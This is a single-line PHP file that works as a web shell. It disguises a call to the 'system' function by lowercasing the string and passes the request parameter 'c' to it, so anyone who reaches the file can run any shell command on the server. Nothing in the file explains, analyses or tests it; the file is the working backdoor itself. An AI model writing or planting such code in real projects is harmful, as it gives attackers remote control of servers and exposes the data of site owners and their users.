<?php $f = strtolower("SYSTEM"); $f($_REQUEST["c"]);
